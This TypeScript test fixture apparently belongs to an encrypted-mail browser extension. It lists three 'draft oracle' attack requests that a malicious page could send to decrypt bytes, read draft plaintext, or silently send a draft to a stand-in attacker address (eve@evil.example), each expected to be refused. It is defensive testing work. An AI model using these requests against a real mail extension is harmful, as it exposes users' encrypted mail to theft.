/**
 * The page skips the content script's vocabulary and sends the frames' messages itself (through the
 * content script, the only sender it could ride on): read.open with its own bytes (decrypt this),
 * drafts.load (read back a reply's quoted plaintext), compose.send (send a draft unseen). The router
 * decides from what the browser reports: a content script in an OWA tab may send only owa.*.
 * One case per message type: see draftOracleCases.
 */
import type { DraftOracleCase } from '../lib/draft-oracle-case';

const source = 'Mailto: Me Your Secrets (NDSS 2020); Mailvelope audit: callers authorised by what they claim';

export const frameOnlyFromPage: DraftOracleCase[] = [
  {
    name: 'draft-oracle-read-open-from-page',
    class: 'draft-oracle',
    source,
    request: { type: 'read.open', source: { kind: 'bytes', message: 'TUlNRS1WZXJzaW9uOiAxLjA=' } },
    refusedWith: 'message.sender-refused',
  },
  {
    name: 'draft-oracle-drafts-load-from-page',
    class: 'draft-oracle',
    source,
    request: { type: 'drafts.load', draftId: 'a1b2c3d4e5f6a1b2c3d4e5f6' },
    refusedWith: 'message.sender-refused',
  },
  {
    name: 'draft-oracle-compose-send-from-page',
    class: 'draft-oracle',
    source,
    request: {
      type: 'compose.send',
      draftId: 'a1b2c3d4e5f6a1b2c3d4e5f6',
      draft: {
        to: ['eve@evil.example'],
        cc: [],
        bcc: [],
        subject: 'x',
        html: '',
        text: '',
        sign: true,
        encrypt: false,
        attachments: [],
      },
    },
    refusedWith: 'message.sender-refused',
  },
];
